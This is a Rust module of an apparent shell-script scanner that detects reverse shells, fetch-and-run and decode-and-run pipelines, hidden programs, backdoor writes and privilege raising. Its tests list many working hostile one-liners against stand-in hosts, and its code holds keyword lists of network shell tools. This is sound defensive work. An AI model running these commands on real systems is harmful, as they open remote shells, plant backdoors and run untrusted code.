//! From commands to what they do.

use std::collections::HashSet;

use pratique_core::Severity;

use super::plain::{Plain, SHELLS, base};
use super::words::{Command, Pipeline, Word, parse};
use super::{MAX_ACTS, MAX_DEPTH, hidden_place};

/// Something that a script does and that few honest ones do.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Act {
    pub(crate) kind: ActKind,
    /// Line of the script, from 1.
    pub(crate) line: u32,
    /// The program that does it, or what it does it with. No arguments: they may hold a password.
    pub(crate) subject: String,
}

/// What is done.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum ActKind {
    /// A shell is handed to a peer on the network.
    ReverseShell,
    /// The shell itself opens a connection, and what is read from it is not known.
    OpensConnection,
    /// Code is fetched from the network and run.
    FetchAndRun,
    /// Code that is encoded is decoded and run.
    DecodeAndRun,
    /// A program is run from a place where no package puts one.
    HiddenProgram,
    /// A way in or up is opened: a key, an account, a rule of sudo, a preloaded library is written.
    OpensAccess,
    /// A file becomes setuid or gains a capability.
    RaisesPrivilege,
    /// A kernel module that no package manager knows is loaded.
    LoadsModule,
}

impl ActKind {
    pub(crate) fn severity(self) -> Severity {
        match self {
            Self::ReverseShell => Severity::Critical,
            Self::OpensConnection
            | Self::FetchAndRun
            | Self::DecodeAndRun
            | Self::HiddenProgram
            | Self::OpensAccess => Severity::High,
            Self::RaisesPrivilege | Self::LoadsModule => Severity::Medium,
        }
    }

    /// What is done, to follow "it".
    pub(crate) fn in_words(self) -> &'static str {
        match self {
            Self::ReverseShell => "hands a shell to a peer on the network",
            Self::OpensConnection => "opens a connection from within the shell",
            Self::FetchAndRun => "fetches code from the network and runs it",
            Self::DecodeAndRun => "decodes code and runs it",
            Self::HiddenProgram => "runs a program from a place where none belongs",
            Self::OpensAccess => "writes a file that decides who gets in",
            Self::RaisesPrivilege => "gives a file privileges",
            Self::LoadsModule => "loads a kernel module from a file",
        }
    }
}

/// What a script does, in its order; false if not all of it was read.
pub(crate) fn acts(script: &str) -> (Vec<Act>, bool) {
    let (pipelines, whole) = parse(script);
    let mut found = Found { acts: Vec::new(), whole, fetched: HashSet::new() };
    found.list(&pipelines, 0);
    let full = found.acts.len() > MAX_ACTS;
    found.acts.truncate(MAX_ACTS);
    (found.acts, found.whole && !full)
}

const FETCHERS: [&str; 9] =
    ["curl", "wget", "fetch", "aria2c", "axel", "lwp-download", "lynx", "ftpget", "tftp"];
struct Found {
    acts: Vec<Act>,
    whole: bool,
    /// Files that were fetched so far.
    fetched: HashSet<String>,
}

impl Found {
    fn add(&mut self, kind: ActKind, line: u32, subject: &str) {
        let subject: String = subject.chars().filter(|c| !c.is_control()).take(100).collect();
        let act = Act { kind, line, subject };
        if self.acts.len() <= MAX_ACTS && !self.acts.contains(&act) {
            self.acts.push(act);
        }
    }

    fn list(&mut self, pipelines: &[Pipeline], depth: usize) {
        if depth > MAX_DEPTH {
            self.whole = false;
            return;
        }
        for pipeline in pipelines {
            self.pipeline(pipeline, depth);
        }
    }

    fn pipeline(&mut self, pipeline: &Pipeline, depth: usize) {
        let plain: Vec<Plain<'_>> = pipeline.iter().filter_map(Plain::of).collect();
        for (place, command) in plain.iter().enumerate() {
            // `curl x | sh`, and what lies between: `curl x | tar -xz | sh` is a shell that reads what was fetched.
            let reads_input = command.runs_code()
                && command.script().is_none()
                && command.file().is_none_or(|file| matches!(file, "/dev/stdin" | "-"));
            if reads_input {
                let before = &plain[..place];
                if let Some(peer) = before.iter().find(|one| is_peer(one)) {
                    self.add(ActKind::ReverseShell, command.command.line, &peer.name);
                } else if let Some(fetcher) = before.iter().find(|one| fetches(one)) {
                    self.add(
                        ActKind::FetchAndRun,
                        command.command.line,
                        &format!("{} | {}", fetcher.name, command.name),
                    );
                } else if let Some(decoder) = before.iter().find(|one| decodes(one)) {
                    self.add(
                        ActKind::DecodeAndRun,
                        command.command.line,
                        &format!("{} | {}", decoder.name, command.name),
                    );
                }
            }
            // `cat /tmp/f | sh -i | nc host 1 > /tmp/f`, with a named pipe.
            if is_peer(command) && plain[..place].iter().any(Plain::is_shell) {
                self.add(ActKind::ReverseShell, command.command.line, &command.name);
            }
            self.command(command, depth);
        }
        for command in pipeline {
            self.redirections(command);
            for word in command.words.iter().chain(&command.redirections) {
                for inner in &word.inner {
                    self.list(inner, depth + 1);
                }
            }
        }
    }

    fn redirections(&mut self, command: &Command) {
        for target in &command.redirections {
            let text = target.text.as_str();
            if text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/") {
                if Plain::of(command).is_some_and(|plain| plain.is_shell()) {
                    self.add(ActKind::ReverseShell, command.line, "/dev/tcp");
                } else if command.words.first().is_some_and(|word| word.text == "exec") {
                    self.add(ActKind::OpensConnection, command.line, "/dev/tcp");
                }
            }
            if decides_access(text) {
                self.add(ActKind::OpensAccess, command.line, text);
            }
        }
    }

    fn command(&mut self, plain: &Plain<'_>, depth: usize) {
        let line = plain.command.line;
        if hands_out_shell(plain) {
            self.add(ActKind::ReverseShell, line, &plain.name);
        }
        // `sh -c "$(curl x)"`, `eval "$(curl x)"`, `bash <(curl x)`, `. <(curl x)`.
        let code: Vec<&Word> = match (plain.name.as_str(), plain.script()) {
            (_, Some(script)) => vec![script],
            ("eval" | "." | "source", None) => plain.arguments.iter().collect(),
            (_, None) if plain.runs_code() => plain.arguments.iter().collect(),
            _ => Vec::new(),
        };
        for word in &code {
            for pipeline in word.inner.iter().flatten() {
                let inner: Vec<Plain<'_>> = pipeline.iter().filter_map(Plain::of).collect();
                if let Some(fetcher) = inner.iter().find(|one| fetches(one)) {
                    self.add(ActKind::FetchAndRun, line, &format!("{} $({})", plain.name, fetcher.name));
                } else if let Some(decoder) = inner.iter().find(|one| decodes(one)) {
                    self.add(ActKind::DecodeAndRun, line, &format!("{} $({})", plain.name, decoder.name));
                }
            }
        }
        let scripts = plain.shell_scripts();
        for script in &scripts {
            self.script(script, line, depth);
        }
        if scripts.is_empty() && plain.runs_code() {
            let code = plain.script().map(|word| &word.text).or(plain.command.input.as_ref());
            if let Some(kind) = code.and_then(|code| foreign_code(code)) {
                self.add(kind, line, &plain.name);
            }
        }
        // A shell or interpreter may be another program that is called so.
        let program = Some(plain.program).filter(|program| plain.runs_code() && program.contains('/'));
        for file in program.into_iter().chain(plain.file()) {
            if self.fetched.contains(file.strip_prefix("./").unwrap_or(file)) || self.fetched.contains(file) {
                self.add(ActKind::FetchAndRun, line, file);
            } else if hidden_place(file).is_some() {
                self.add(ActKind::HiddenProgram, line, file);
            }
        }
        self.writes(plain);
    }

    /// A script within a script.
    fn script(&mut self, text: &str, line: u32, depth: usize) {
        if depth >= MAX_DEPTH {
            self.whole = false;
            return;
        }
        let (pipelines, whole) = parse(text);
        self.whole &= whole;
        let known = self.acts.len();
        self.list(&pipelines, depth + 1);
        for act in &mut self.acts[known..] {
            act.line = line;
        }
    }

    /// What it leaves behind.
    fn writes(&mut self, plain: &Plain<'_>) {
        let line = plain.command.line;
        let arguments = || plain.arguments.iter().map(|word| word.text.as_str());
        let after = |options: &[&str]| {
            let place = arguments().position(|text| options.contains(&text))?;
            arguments().nth(place + 1)
        };
        match plain.name.as_str() {
            "curl" | "wget" | "aria2c" => {
                let target = after(&["-o", "-O", "--output", "--output-document"])
                    .filter(|target| !target.starts_with('-'));
                let is_address = |text: &str| text.contains("://");
                let named = arguments().find(|text| is_address(text)).and_then(|url| url.rsplit('/').next());
                let keeps_name =
                    plain.name == "wget" || plain.has(&["-O", "--remote-name", "-LO", "-sSLO", "-fsSLO"]);
                let redirected = plain
                    .command
                    .redirections
                    .iter()
                    .map(|word| word.text.as_str())
                    .find(|text| !text.starts_with("/dev/"));
                let target = target
                    .filter(|target| !is_address(target))
                    .or(redirected)
                    .or(named.filter(|_| keeps_name));
                self.fetched.extend(target.filter(|target| !target.is_empty()).map(str::to_owned));
            }
            "tee" => {
                for target in arguments().filter(|text| decides_access(text)) {
                    self.add(ActKind::OpensAccess, line, target);
                }
            }
            "useradd" | "adduser"
                if plain.has(&["-o", "--non-unique"]) && after(&["-u", "--uid"]) == Some("0") =>
            {
                self.add(ActKind::OpensAccess, line, &plain.name);
            }
            "chmod" => {
                let raises = |mode: &str| {
                    let digits = mode.trim_start_matches('0');
                    let octal = digits.len() == 4
                        && digits.bytes().all(|b| b.is_ascii_digit())
                        && matches!(digits.as_bytes()[0], b'4' | b'6' | b'5' | b'7');
                    octal || (mode.contains('+') && mode.split(',').any(|part| matches!(part.split_once('+'), Some((who, what)) if what.contains('s') && (who.is_empty() || who.contains(['u', 'a'])))))
                };
                if arguments().find(|text| !text.starts_with('-')).is_some_and(raises) {
                    self.add(ActKind::RaisesPrivilege, line, "chmod");
                }
            }
            "setcap"
                if arguments().any(|text| text.contains("cap_setuid") || text.contains("cap_sys_admin")) =>
            {
                self.add(ActKind::RaisesPrivilege, line, "setcap");
            }
            "insmod" => self.add(ActKind::LoadsModule, line, "insmod"),
            _ => {}
        }
    }
}

fn fetches(plain: &Plain<'_>) -> bool {
    FETCHERS.contains(&plain.name.as_str())
        || (plain.name == "busybox" && plain.arguments.first().is_some_and(|word| word.text == "wget"))
}

fn decodes(plain: &Plain<'_>) -> bool {
    match plain.name.as_str() {
        "base64" | "base32" | "basenc" => plain.has(&["-d", "--decode", "-D", "-di", "-id"]),
        "xxd" => plain.arguments.iter().any(|word| word.text.starts_with('-') && word.text.contains('r')),
        "openssl" => plain.has(&["-d"]),
        "uudecode" => true,
        _ => false,
    }
}

/// Whether it talks to a peer on the network.
fn is_peer(plain: &Plain<'_>) -> bool {
    match plain.name.as_str() {
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" | "telnet" => {
            plain.arguments.iter().filter(|word| !word.text.starts_with('-')).count() >= 2
        }
        "openssl" => plain.has(&["s_client"]),
        "socat" => true,
        _ => false,
    }
}

/// Whether a program of the network is told to run a shell for its peer.
fn hands_out_shell(plain: &Plain<'_>) -> bool {
    match plain.name.as_str() {
        "nc" | "ncat" | "netcat" | "nc.traditional" => {
            let short =
                |text: &str| text.starts_with('-') && !text.starts_with("--") && text.ends_with(['e', 'c']);
            plain.arguments.windows(2).any(|pair| {
                (short(&pair[0].text) || matches!(pair[0].text.as_str(), "--exec" | "--sh-exec"))
                    && (pair[1].text.starts_with('/') || SHELLS.contains(&pair[1].text.as_str()))
            })
        }
        "socat" => plain.arguments.iter().any(|word| {
            let text = word.text.to_ascii_lowercase();
            (text.starts_with("exec:") || text.starts_with("system:"))
                && SHELLS
                    .iter()
                    .any(|shell| base(text.split([':', ',', ' ']).nth(1).unwrap_or_default()) == *shell)
        }),
        "awk" | "gawk" => plain.arguments.iter().any(|word| runs_what_a_peer_says(&word.text)),
        _ => false,
    }
}

/// Whether a program of awk reads from the network, and runs something or reads from a second source: there commands and
/// peers are read alike.
fn runs_what_a_peer_says(program: &str) -> bool {
    let mut sources: Vec<&str> = program.split("getline").collect();
    sources.pop();
    let mut sources = sources.iter().filter_map(|before| {
        let before = before.trim_end().trim_end_matches('&').strip_suffix('|')?.trim_end();
        before.rsplit(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).next()
    });
    let first = sources.next();
    (program.contains("/inet/tcp/") || program.contains("/inet/udp/"))
        && (program.contains("system(") || sources.any(|source| Some(source) != first))
}

/// What code of another language does, as far as its words tell.
pub(crate) fn foreign_code(code: &str) -> Option<ActKind> {
    let has = |words: &[&str]| words.iter().any(|word| code.contains(word));
    let connects = has(&["socket", "Socket", "fsockopen"]);
    if connects && has(&["dup2", "pty.spawn", "/bin/sh", "/bin/bash", "subprocess", "child_process"]) {
        return Some(ActKind::ReverseShell);
    }
    // PHP and Ruby have their own words for both.
    let calls = has(&["fsockopen", "stream_socket_client", "TCPSocket"]);
    if calls && has(&["exec(", "exec \"", "system(", "passthru(", "proc_open", "popen", "spawn", "`"]) {
        return Some(ActKind::ReverseShell);
    }
    let runs =
        has(&["exec(", "eval(", "os.system", "subprocess", "__import__", "popen", "execSync", "compile("]);
    // A line for a shell in it.
    let piped = has(&["curl ", "wget "]) && has(&["| sh", "|sh", "| bash", "|bash"]);
    if runs && piped {
        return Some(ActKind::FetchAndRun);
    }
    if runs
        && has(&[
            "urllib",
            "requests.get",
            "urlopen",
            "http.client",
            "LWP::",
            "Net::HTTP",
            "https.get",
            "http.get",
        ])
    {
        return Some(ActKind::FetchAndRun);
    }
    (runs
        && has(&[
            "b64decode",
            "base64",
            "fromhex",
            "unhexlify",
            "zlib.decompress",
            "codecs.decode",
            "marshal.loads",
            "pack(",
        ]))
    .then_some(ActKind::DecodeAndRun)
}

/// Whether whoever writes this file decides who gets in or what runs as root.
fn decides_access(path: &str) -> bool {
    const FILES: [&str; 8] = [
        "/etc/passwd",
        "/etc/shadow",
        "/etc/sudoers",
        "/etc/ld.so.preload",
        "/etc/crontab",
        "/etc/group",
        "/etc/gshadow",
        "/etc/rc.local",
    ];
    FILES.contains(&path)
        || path.ends_with("/.ssh/authorized_keys")
        || ["/etc/sudoers.d/", "/etc/cron.d/", "/var/spool/cron/"]
            .iter()
            .any(|folder| path.starts_with(folder))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(script: &str) -> Vec<ActKind> {
        let (acts, whole) = acts(script);
        assert!(whole, "{script}");
        acts.into_iter().map(|act| act.kind).collect()
    }

    #[test]
    fn what_is_done_is_told() {
        use ActKind::*;
        for (script, kind) in [
            ("curl -fsSL http://x.test/i.sh | sh", FetchAndRun),
            ("wget -qO- x.test/a|sudo -E bash -s -- -y", FetchAndRun),
            ("curl x.test/a | bash -s stable", FetchAndRun),
            ("curl x.test/a | bash -x -", FetchAndRun),
            ("curl x.test/a | busybox sh", FetchAndRun),
            ("bash -x -c 'curl x.test | sh'", FetchAndRun),
            ("bash -exo pipefail -c 'curl x.test | sh'", FetchAndRun),
            ("sh -c -e 'curl x.test | sh'", FetchAndRun),
            ("bash -cx -- 'curl x.test | sh'", FetchAndRun),
            ("busybox sh -c 'curl x.test | sh'", FetchAndRun),
            ("curl -o a x.test/a; bash -x a", FetchAndRun),
            ("sh -c \"$(curl -fsSL https://x.test/i)\"", FetchAndRun),
            ("bash <(curl -s https://x.test/i)", FetchAndRun),
            ("eval `wget -O - x.test`", FetchAndRun),
            ("source <(curl -s x.test)", FetchAndRun),
            ("curl x.test/p.py | python3", FetchAndRun),
            ("curl -o /opt/x http://x.test/x && chmod +x /opt/x && /opt/x", FetchAndRun),
            ("wget http://x.test/run.sh\nsh run.sh", FetchAndRun),
            ("if true; then curl x.test | sh; fi", FetchAndRun),
            ("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", ReverseShell),
            ("nohup bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1' &", ReverseShell),
            ("exec 5<>/dev/tcp/192.0.2.1/443", OpensConnection),
            ("exec bash -i 0<>/dev/tcp/192.0.2.1/443", ReverseShell),
            ("nc -e /bin/sh 192.0.2.1 443", ReverseShell),
            ("ncat 192.0.2.1 443 --exec /bin/bash", ReverseShell),
            ("socat TCP:192.0.2.1:443 EXEC:/bin/bash,pty", ReverseShell),
            ("rm -f /run/f; mkfifo /run/f; cat /run/f | sh -i 2>&1 | nc 192.0.2.1 443 >/run/f", ReverseShell),
            ("python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)'", ReverseShell),
            ("perl -e 'use Socket;exec(\"/bin/sh -i\")'", ReverseShell),
            ("php -r '$s=fsockopen(\"192.0.2.1\",443);exec(\"sh <&3 >&3\");'", ReverseShell),
            ("ruby -rsocket -e 'c=TCPSocket.new(\"x.test\",443);loop{c.print `#{c.gets}`}'", ReverseShell),
            (
                "gawk 'BEGIN{s=\"/inet/tcp/0/x.test/443\";s|&getline c;while((c|getline l)>0)print l|&s}'",
                ReverseShell,
            ),
            ("python3 -c 'import os;os.system(\"curl x.test | sh\")'", FetchAndRun),
            ("echo aWQ= | base64 -d | bash", DecodeAndRun),
            ("eval \"$(echo aWQ= | base64 --decode)\"", DecodeAndRun),
            ("python3 -c \"exec(__import__('base64').b64decode('aWQ='))\"", DecodeAndRun),
            ("/tmp/.x/miner -q", HiddenProgram),
            ("nice -n 19 /dev/shm/k", HiddenProgram),
            ("/dev/shm/sh /etc/x.conf", HiddenProgram),
            ("/tmp/python3 -m http.server", HiddenProgram),
            ("sh /var/tmp/a.sh", HiddenProgram),
            ("/usr/lib/.cache/d", HiddenProgram),
            ("echo 'ssh-ed25519 AAAA' >> /root/.ssh/authorized_keys", OpensAccess),
            ("echo x | tee -a /etc/ld.so.preload", OpensAccess),
            ("useradd -o -u 0 helper", OpensAccess),
            ("chmod u+s /bin/bash", RaisesPrivilege),
            ("chmod 04755 /bin/bash", RaisesPrivilege),
            ("insmod /lib/x.ko", LoadsModule),
            ("bash <<EOF\ncurl x.test | sh\nEOF", FetchAndRun),
            ("cur\\\nl x.test | s'h'", FetchAndRun),
        ] {
            assert_eq!(kinds(script), [kind], "{script}");
        }
    }

    #[test]
    fn what_only_looks_like_it_is_not() {
        for script in [
            "# curl x | sh",
            "echo done # curl x | sh",
            "echo 'curl x | sh'",
            "echo \"run: bash -i >& /dev/tcp/1.2.3.4/1\"",
            "cat <<'EOF'\ncurl x | sh\nEOF\necho",
            "curl -o x.tar https://x.test/x.tar && tar xf x.tar",
            "curl -s https://x.test/v | grep -o v1 | sort",
            "curl https://x.test/key | gpg --dearmor > /etc/apt/keyrings/x.gpg",
            "echo aWQ= | base64 -d > /etc/x",
            "nc -z db 5432",
            "nc -lk 8080",
            "timeout 1 bash -c 'echo > /dev/tcp/db/5432' 2>/dev/null",
            "rm -rf /tmp/build /var/tmp/*",
            "mkdir -p /tmp/x && cd /tmp/x",
            "/root/.cargo/bin/tool",
            "chmod 755 /usr/bin/x; chmod +x y; chmod g+s /var/mail",
            "grep root /etc/passwd",
            "test -f /etc/ld.so.preload && cat /etc/ld.so.preload",
            "bash -c 'echo ok'",
            "bash -o errexit run.sh -c 'curl x.test | sh'",
            "curl x.test/a | busybox tar x",
            "curl x.test/a | bash check.sh -s",
            "python3 -c 'import socket; print(socket.gethostname())'",
            "php -r '$s = fsockopen(\"db\", 3306); exit($s ? 0 : 1);'",
            "ruby -rsocket -e 'TCPSocket.new(\"db\", 5432).close'",
            "gawk 'BEGIN { s = \"/inet/tcp/0/db/13\"; s |& getline; print }'",
            "python3 -c 'import os; os.system(\"curl x.test > a\")'",
            "python3 -m http.server",
            "case $1 in start) /usr/sbin/daemon;; esac",
            "x=$((1 + 2)); echo ${x%%(*}",
        ] {
            assert_eq!(kinds(script), [], "{script}");
        }
    }

    #[test]
    fn hostile_scripts_end() {
        for script in [
            "$(".repeat(100_000),
            "`".repeat(100_001),
            "'".to_owned() + &"a".repeat(1 << 20),
            "a|".repeat(300_000),
            "((((".repeat(50_000),
            "cat <<E\n".repeat(20_000),
            "\"$(\"".repeat(10_000),
            "sh -c 'sh -c \"sh -c sh\"'\n".repeat(1000),
            // Each of what is run may be any of what was fetched.
            (0..20_000).map(|n| format!("curl -o a{n} x.test;./b{n};")).collect(),
        ] {
            acts(&script);
        }
        assert!(!acts(&"$(".repeat(100)).1, "what is nested too deep was not read");
    }
}
